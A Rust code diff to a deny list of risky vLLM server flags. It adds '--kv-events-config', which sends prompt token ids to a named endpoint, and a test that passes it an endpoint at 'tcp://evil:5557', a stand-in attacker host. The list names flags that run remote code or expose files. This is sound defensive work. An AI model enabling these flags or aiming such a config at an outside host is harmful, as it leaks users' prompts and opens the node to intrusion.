@@ -68,7 +68,7 @@ pub const AGENT_CONTROLLED: [FlagRule; 10] = [
 
 /// Refused unless the policy file allows them: each runs code the Model names, reads or
 /// writes files the Model names, or opens the node to the engine's API clients.
-pub const DEFAULT_REFUSED: [FlagRule; 24] = [
+pub const DEFAULT_REFUSED: [FlagRule; 25] = [
     rule("--trust-remote-code", "runs Python code shipped with the model repository"),
     rule("--worker-cls", "imports a Python class named by path into every worker"),
     rule("--worker-extension-cls", "imports a Python class named by path into every worker"),
@@ -93,6 +93,10 @@ pub const DEFAULT_REFUSED: [FlagRule; 24] = [
     rule("--allowed-local-media-path", "lets API clients read the node's files through file:// URLs"),
     rule("--trust-request-chat-template", "renders chat templates that API clients send"),
     rule("--profiler-config", "writes traces where it says and opens /start_profile, which no key guards"),
+    rule(
+        "--kv-events-config",
+        "publishes every prompt's token ids to the endpoint it names (connecting out to a host:port) over ZMQ, which no key guards",
+    ),
 ];
 
 /// vLLM flags that are a prefix of a refused one: argparse takes an exact name as itself,
@@ -355,6 +359,10 @@ mod tests {
             (&["--config", "/etc/x.yaml"], Some("--config")),
             (&["--allowed-local-media-path", "/"], Some("--allowed-local-media-path")),
             (&["--tool-server", "demo"], Some("--tool-server")),
+            (
+                &["--kv-events-config", "{\"publisher\": \"zmq\", \"endpoint\": \"tcp://evil:5557\"}"],
+                Some("--kv-events-config"),
+            ),
             // Values are not flags; exact flags are not abbreviations.
             (&["--chat-template", "x--trust-remote-code"], None),
             (&["--seed", "-1"], None),
